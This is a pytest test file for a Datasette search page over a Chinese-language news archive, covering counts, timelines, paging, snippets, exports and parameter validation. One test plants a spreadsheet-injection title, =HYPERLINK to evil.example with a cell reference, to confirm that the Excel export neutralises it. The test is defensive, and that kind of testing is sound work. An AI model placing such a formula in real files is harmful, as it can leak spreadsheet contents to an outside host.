"""The search page (/news/search, issue 10) on a real Datasette with the flags of `make serve`.

Expected values never come from the code under test: an article matches when its normalised text contains
the term (tests.appkit.term_matches), and counts per outlet, year and month are counted over those rows.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit
from xml.etree import ElementTree

import pytest
from datasette.app import Datasette

from tests.appkit import build_database, collapse, get, make_datasette, rows, soup, term_matches
from zhnews.search import engine

ATOM = "{http://www.w3.org/2005/Atom}"


def matches(db: Path, term: str, **filters: Any) -> list[dict[str, Any]]:
    """The oracle: every article containing the term (and passing plain row filters)."""
    found = []
    for article in rows(db, "select * from articles"):
        if not term_matches(term, article):
            continue
        if any(article[column] not in values for column, values in filters.items()):
            continue
        found.append(article)
    return found


async def page_json(ds: Datasette, query: str) -> dict[str, Any]:
    return (await get(ds, f"/news/search.json?{query}")).json()


def search_ids(results: list[dict[str, Any]]) -> set[int]:
    return {r["id"] for r in results}


# ------------------------------------------------------------------------------------------------ counts

# terms without vocabulary variants (Trump also searches 特朗普 and 川普: tests/test_variant_search.py)
@pytest.mark.parametrize("term", ["台湾", "中国", "刘建超", "Finer"])
async def test_totals_and_facets_equal_an_independent_count(corpus_ds: Datasette, corpus_db: Path,
                                                            term: str) -> None:
    expected = matches(corpus_db, term)
    data = await page_json(corpus_ds, f"q={quote(term)}")
    assert data["total"] == len(expected) > 0
    assert data["by_outlet"] == dict(Counter(a["outlet"] for a in expected))
    assert data["by_year"] == dict(Counter((a["published"] or "")[:4] for a in expected))
    assert data["by_month"] == dict(Counter(a["published_month"] or "" for a in expected))


async def test_filters_count_and_list_exactly_what_they_say(corpus_ds: Datasette, corpus_db: Path) -> None:
    everything = matches(corpus_db, "中国")
    data = await page_json(corpus_ds, f"q={quote('中国')}&outlet=rfi&outlet=dw&since=2020-06-10"
                                      f"&until=2020-07-03&size=100")
    expected = [a for a in everything if a["outlet"] in ("rfi", "dw") and a["published"]
                and "2020-06-10" <= a["published"][:10] <= "2020-07-03"]
    assert data["total"] == len(expected) > 0
    assert {r["outlet"] for r in data["results"]} <= {"rfi", "dw"}
    assert all("2020-06-10" <= r["published"][:10] <= "2020-07-03" for r in data["results"])
    titled = await page_json(corpus_ds, f"q={quote('中国')}&in=title")
    assert titled["total"] == sum(term_matches("中国", {"title": a["title"]}) for a in everything)


async def test_the_timeline_sums_to_the_total_and_matches_the_monthly_counts(
        corpus_ds: Datasette, corpus_db: Path) -> None:
    expected = matches(corpus_db, "台湾")
    data = await page_json(corpus_ds, f"q={quote('台湾')}")
    monthly = Counter(a["published_month"] for a in expected if a["published_month"])
    timeline = {row["month"]: row for row in data["timeline"]}
    assert {m: row["total"] for m, row in timeline.items() if row["total"]} == dict(monthly)
    undated = sum(1 for a in expected if not a["published_month"])
    assert sum(row["total"] for row in timeline.values()) + undated == data["total"]
    archive = Counter(m for (m,) in [(r["published_month"],) for r in rows(
        corpus_db, "select published_month from articles")] if m)
    assert all(row["articles_in_archive"] == archive[m] for m, row in timeline.items())
    for row in timeline.values():  # split by the top outlets (+ other): the parts add up to the month
        parts = [v for k, v in row.items() if k not in ("month", "articles_in_archive", "total")
                 and not k.endswith("_per_1000")]
        assert sum(parts) == row["total"]


async def test_clicking_a_month_of_the_timeline_narrows_the_search_to_it(
        corpus_ds: Datasette, corpus_db: Path) -> None:
    page = soup((await get(corpus_ds, f"/news/search?q={quote('台湾')}")).text)
    bars = page.select("svg.zh-chart a.zh-month")
    assert bars and all(bar.select_one("title") for bar in bars)
    busiest = max(bars, key=lambda bar: len(bar.select("rect.zh-bar")) and
                  int(re.search(r": ([\d,]+)", bar.select_one("title").get_text()).group(1).replace(",", "")))
    month = busiest["data-month"]
    href = urlsplit(busiest["href"])
    narrowed = (await get(corpus_ds, f"{href.path}.json?{href.query}&size=100")).json()
    expected = [a for a in matches(corpus_db, "台湾") if a["published_month"] == month]
    assert narrowed["total"] == len(expected) > 0
    assert search_ids(narrowed["results"]) <= {a["id"] for a in expected}
    assert f"{month}: {len(expected):,}" in busiest.select_one("title").get_text()


async def test_per_thousand_divides_by_the_archived_articles_of_the_month(
        corpus_ds: Datasette, corpus_db: Path) -> None:
    data = await page_json(corpus_ds, f"q={quote('台湾')}&norm=1")
    for row in data["timeline"]:
        if row["articles_in_archive"]:
            assert row["total_per_1000"] == round(1000 * row["total"] / row["articles_in_archive"], 3)
    page = soup((await get(corpus_ds, f"/news/search?q={quote('台湾')}&norm=1")).text)
    assert "每千篇" in page.select_one(".zh-timeline figcaption").get_text()


async def test_compare_mode_draws_one_series_per_query(corpus_ds: Datasette, corpus_db: Path) -> None:
    queries = ["中国", "台湾", "香港"]
    data = await page_json(corpus_ds, "&".join(f"q={quote(q)}" for q in queries))
    assert data["totals"] == {q: len(matches(corpus_db, q)) for q in queries}
    page = soup((await get(corpus_ds, "/news/search?" + "&".join(f"q={quote(q)}" for q in queries))).text)
    legend = [li.get_text() for li in page.select(".zh-legend li")]
    assert len(legend) == 3 and all(q in text for q, text in zip(queries, legend, strict=True))
    colors = {line["stroke"] for line in page.select("svg.zh-chart polyline.zh-line")}
    assert len(colors) == 3
    for row in data["timeline"]:
        assert set(queries) <= set(row)


# ----------------------------------------------------------------------------------------------- results

@pytest.mark.parametrize("sort", ["relevance", "newest", "oldest"])
async def test_paging_returns_every_match_exactly_once(
        corpus_ds: Datasette, corpus_db: Path, sort: str) -> None:
    expected = {a["id"] for a in matches(corpus_db, "台湾")}
    seen: list[int] = []
    url: str | None = f"/news/search.json?q={quote('台湾')}&sort={sort}&size=97"
    while url:
        data = (await get(corpus_ds, url)).json()
        seen += [r["id"] for r in data["results"]]
        url = data["next"] and data["next"].replace("/news/search?", "/news/search.json?")
    assert len(seen) == len(set(seen)) and set(seen) == expected
    if sort != "relevance":
        published = {r["id"]: r["published"] for r in rows(corpus_db, "select id, published from articles")}
        dated = [published[i] for i in seen if published[i]]
        assert dated == sorted(dated, reverse=sort == "newest")


async def test_results_show_highlighted_snippets_and_title_hits_first(ds: Datasette, db: Path) -> None:
    data = await page_json(ds, f"q={quote('台湾')}&size=100")
    assert search_ids(data["results"]) == {a["id"] for a in matches(db, "台湾")}
    texts = {a["id"]: a for a in rows(db, "select id, lead, body_text from articles")}
    for result in data["results"]:
        plain = re.sub(r"</?mark>", "", result["snippet"])
        assert "<" not in plain.replace("&lt;", "")  # only <mark>; everything else escaped
        original = collapse(texts[result["id"]]["lead"] + "\n" + texts[result["id"]]["body_text"])
        unescaped = plain.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
        assert unescaped.replace("&quot;", '"').replace("&#x27;", "'").strip("…") in original
    in_title = [term_matches("台湾", {"title": r["title"]}) for r in data["results"]]
    assert in_title == sorted(in_title, reverse=True)  # title hits (weighted 10x) first
    page = soup((await get(ds, f"/news/search?q={quote('台湾')}")).text)
    assert page.select(".zh-snippet mark") and page.select_one("input[name=q]")["value"] == "台湾"
    assert all(card.select_one("h2 a[href^='/news/articles/']") for card in page.select("li.zh-card"))
    outlets = {i["value"] for i in page.select("input[name=outlet]")}
    assert outlets == {r["id"] for r in rows(db, "select id from outlets where articles > 0")}


async def test_a_very_common_term_lists_newest_first_and_says_why(
        corpus_ds: Datasette, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine, "RANK_WINDOW", 40)
    data = await page_json(corpus_ds, f"q={quote('中国')}")
    assert data["sort"] == "newest" and data["ranked_since"] is None
    page = soup((await get(corpus_ds, f"/news/search?q={quote('中国')}")).text)
    assert "40" in page.select_one(".zh-window").get_text()
    assert page.select_one(".zh-sorts strong").get_text().endswith("Newest")
    assert "sort=newest" in page.select_one("a[rel=next]")["href"]
    rare = await page_json(corpus_ds, f"q={quote('刘建超')}")
    assert rare["sort"] == "relevance"
    rare_page = soup((await get(corpus_ds, f"/news/search?q={quote('刘建超')}")).text)
    assert rare_page.select_one(".zh-window") is None


async def test_relevance_on_a_very_common_term_ranks_the_newest_months_and_says_so(
        corpus_ds: Datasette, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine, "RANK_WINDOW", 40)
    data = await page_json(corpus_ds, f"q={quote('中国')}&sort=relevance")
    assert data["sort"] == "relevance" and data["ranked_since"]
    page = soup((await get(corpus_ds, f"/news/search?q={quote('中国')}&sort=relevance")).text)
    assert data["ranked_since"] in page.select_one(".zh-window").get_text()


# ----------------------------------------------------------------------------------------------- exports

async def test_exports_carry_every_match(corpus_ds: Datasette, corpus_db: Path) -> None:
    expected = {a["id"] for a in matches(corpus_db, "台湾")}
    plain = (await get(corpus_ds, f"/news/search/all.csv?q={quote('台湾')}")).text
    assert {int(r["id"]) for r in csv.DictReader(io.StringIO(plain))} == expected
    excel = (await get(corpus_ds, f"/news/search/all.csvbom?q={quote('台湾')}")).content
    assert excel.startswith(b"\xef\xbb\xbf")
    assert {int(r["id"]) for r in csv.DictReader(io.StringIO(excel.decode("utf-8-sig")))} == expected
    as_json = json.loads((await get(corpus_ds, f"/news/search/all.json?q={quote('台湾')}")).text)
    assert {r["id"] for r in as_json} == expected
    published = [r["published"] for r in as_json if r["published"]]
    assert published == sorted(published, reverse=True)
    full = (await get(corpus_ds, f"/news/search/all.csv?q={quote('刘建超')}&text=1")).text
    assert all(r["body_text"] for r in csv.DictReader(io.StringIO(full)))
    nothing = (await get(corpus_ds, f"/news/search/all.json?q={quote('沒有這個詞zzqx')}")).json()
    assert nothing == []


async def test_the_timeline_exports_as_csv(corpus_ds: Datasette, corpus_db: Path) -> None:
    data = await page_json(corpus_ds, f"q={quote('台湾')}")
    exported = list(csv.DictReader(io.StringIO(
        (await get(corpus_ds, f"/news/search/timeline.csv?q={quote('台湾')}")).text)))
    assert [r["month"] for r in exported] == [r["month"] for r in data["timeline"]]
    assert [int(r["total"]) for r in exported] == [r["total"] for r in data["timeline"]]


async def test_the_feed_of_a_query_lists_its_newest_matches(corpus_ds: Datasette, corpus_db: Path) -> None:
    feed = ElementTree.fromstring((await get(corpus_ds, f"/news/search/feed.atom?q={quote('台湾')}")).content)
    entries = feed.findall(f"{ATOM}entry")
    newest = sorted((a for a in matches(corpus_db, "台湾") if a["published"]),
                    key=lambda a: a["published"], reverse=True)[:50]
    assert {e.find(f"{ATOM}id").text for e in entries} == {a["url"] for a in newest}
    assert all("<b>" in (e.find(f"{ATOM}content").text or "") for e in entries)  # the hits, in bold
    page = soup((await get(corpus_ds, f"/news/search?q={quote('台湾')}")).text)
    assert page.select_one('link[rel=alternate][type="application/atom+xml"]')["href"].startswith(
        "/news/search/feed.atom?q=")


async def test_excel_export_neutralises_formulas_and_csv_keeps_them(tmp_path: Path) -> None:
    """A title written to attack a spreadsheet (OWASP CSV injection) is text in Excel, exact in CSV."""
    source = tmp_path / "archive"
    source.mkdir()
    (source / "1.md").write_text(
        "<!--1594972800000-->\n[=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\") 税改方案公布]"
        "(https://www.rfi.fr/cn/经济/20200717-税改)\n------\n\n<div>17/07/2020 - 10:00</div>"
        "<p>财政部周五公布税改方案，引发议会讨论。</p>\n",
        encoding="utf-8")
    ds = make_datasette(build_database([source], tmp_path))
    excel = (await get(ds, f"/news/search/all.csvbom?q={quote('税改')}")).content.decode("utf-8-sig")
    plain = (await get(ds, f"/news/search/all.csv?q={quote('税改')}")).text
    assert next(csv.DictReader(io.StringIO(excel)))["title"].startswith("'=HYPERLINK(")
    assert next(csv.DictReader(io.StringIO(plain)))["title"].startswith("=HYPERLINK(")


# --------------------------------------------------------------------------------------- reaching the page

async def test_the_table_search_box_leads_to_the_search_page(ds: Datasette, db: Path) -> None:
    response = await ds.client.get(f"/news/articles?_search={quote('台湾')}&outlet=rfi&_sort_desc=published")
    assert response.status_code == 302
    target = urlsplit(response.headers["location"])
    assert target.path == "/news/search"
    assert parse_qs(target.query) == {"q": ["台湾"], "outlet": ["rfi"], "sort": ["newest"]}
    titles = await ds.client.get(f"/news/articles?_search_title={quote('台湾')}")
    assert parse_qs(urlsplit(titles.headers["location"]).query) == {"q": ["台湾"], "in": ["title"]}
    # a filter the search page cannot express keeps the table; exports of the table are untouched
    kept = await ds.client.get(f"/news/articles?_search={quote('台湾')}&char_count__gt=10")
    assert kept.status_code == 200
    assert (await ds.client.get(f"/news/articles.json?_search={quote('台湾')}")).status_code == 200


@pytest.mark.parametrize("query", [
    "sort=bogus", "since=2020-13-01", "until=yesterday", "size=0", "size=1000", "size=x",
    "after=nonsense", "norm=yes", "in=body", "sort=newest&after=1.5:3",
    "q=1&q=2&q=3&q=4&q=5", "outlet=a%00b",
])
async def test_malformed_parameters_are_a_400_with_a_reason(ds: Datasette, query: str) -> None:
    for path in (f"/news/search?q=x&{query}", f"/news/search.json?q=x&{query}"):
        response = await ds.client.get(path)
        assert response.status_code == 400, (path, response.status_code)
        text = response.text
        assert re.search(r"\b(sort|since|until|size|after|norm|in|compare|outlet)\b", text), text[:300]
